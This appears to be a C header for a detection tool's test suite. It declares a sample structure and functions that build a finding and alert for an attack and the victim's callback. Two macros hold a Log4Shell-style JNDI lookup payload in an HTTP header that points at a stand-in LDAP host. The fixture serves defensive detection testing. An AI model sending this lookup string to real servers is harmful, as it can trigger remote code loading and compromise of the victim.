/* SPDX-License-Identifier: GPL-2.0-or-later */
#ifndef SUPPORT_SAMPLE_H
#define SUPPORT_SAMPLE_H

#include "correlate/correlate.h"

/* A whole finding, and the alert it becomes, for tests of what comes after detection. Everything may be
 * changed between sample_lookup or sample_callback and sample_seal. */
struct sample {
    struct rule_metadata metadata[4];
    char *references[2];
    struct rule rule;
    struct flow flow;
    struct chunk chunk;
    struct http_view http;
    struct field field;
    struct attrs attrs;
    struct finding finding;
    struct buf bytes; /* of the record */
    struct record record;
    struct alert alert;
};

#define SAMPLE_PAYLOAD \
    "GET /a HTTP/1.1\r\nHost: app.example:8080\r\nX-Api: ${jndi:ldap://203.0.113.9:1389/a}\r\n\r\n"
#define SAMPLE_RAW "${jndi:ldap://203.0.113.9:1389/a}"

/* A client sends a lookup in an HTTP header (1442200, severity 1), packet 4 of its flow. */
void sample_lookup(struct sample *s);

/* The victim, now client, searches a directory as JNDI does; seen in the server's answer. */
void sample_callback(struct sample *s);

/* Writes the record and makes s->alert of it. False when the record cannot be read back. */
bool sample_seal(struct sample *s, enum stage stage);

void sample_drop(struct sample *s);

#endif
